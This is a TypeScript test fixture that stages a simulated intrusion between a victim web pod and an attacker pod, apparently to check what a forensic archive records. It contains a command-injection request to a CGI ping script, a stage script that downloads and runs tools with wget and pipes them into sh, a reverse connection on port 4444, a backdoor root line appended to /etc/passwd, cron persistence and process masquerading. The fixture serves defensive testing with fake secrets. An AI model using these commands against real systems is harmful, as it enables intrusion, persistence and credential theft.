/**
 * A break-in, played through: a web server with a hole, an attacker's machine, and the request that goes through the
 * hole. So the archive holds what real ones do: the way in, in environments; what was fetched, run and removed.
 * Every secret and every wallet is made up, and nobody outside the node is talked to.
 */
import type { TestNode } from '../node.ts';
import { succeeded } from '../process.ts';
import { pod, SHOP } from './pods.ts';

/** /www/cgi-bin/ping in the image runs what follows the address in its query. */
export const victim = pod(SHOP, 'web', [
  {
    name: 'app',
    command: ['httpd', '-f', '-p', '8080', '-h', '/www'],
    env: {
      AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE',
      AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
      DB_PASSWORD: 'correct-horse-battery-staple',
    },
  },
]);

/** Runs on the victim, with the attacker's address as its argument. */
const STAGE = `exec </dev/null >/dev/null 2>&1
mkdir /tmp/.cache && cd /tmp/.cache
for tool in loader dial vanish; do wget -q "http://$1:8000/$tool" && chmod +x $tool; done
mv vanish sshd
/tmp/.cache/sshd &
./loader '[kworker/0:1]' &
./dial "$1" 4444 &
echo 'toor:x:0:0::/root:/bin/sh' >>/etc/passwd
echo "* * * * * wget -qO- http://$1:8000/stage | sh -s $1" >/tmp/.cron
`;

export const attacker = pod(SHOP, 'attacker', [
  { name: 'listener', command: ['answer', '4444', 'unset HISTFILE', 'cd /tmp', 'id', 'cat /etc/passwd'] },
  {
    name: 'files',
    command: [
      'sh',
      '-c',
      'cp /bin/loader /bin/dial /bin/vanish /www; echo "$STAGE" >/www/stage; exec httpd -f -p 8000 -h /www',
    ],
    env: { STAGE },
  },
]);

/** The request that goes through the hole. */
export async function breakIn(node: TestNode, victimAddress: string, attackerAddress: string): Promise<void> {
  const injected = `127.0.0.1; wget -qO- http://${attackerAddress}:8000/stage | sh -s ${attackerAddress}`;
  const url = `http://${victimAddress}:8080/cgi-bin/ping?${encodeURIComponent(injected)}`;
  const argv = ['curl', '-sS', '--fail', '--retry', '5', '--retry-connrefused', url];
  succeeded(argv, await node.exec(argv));
}
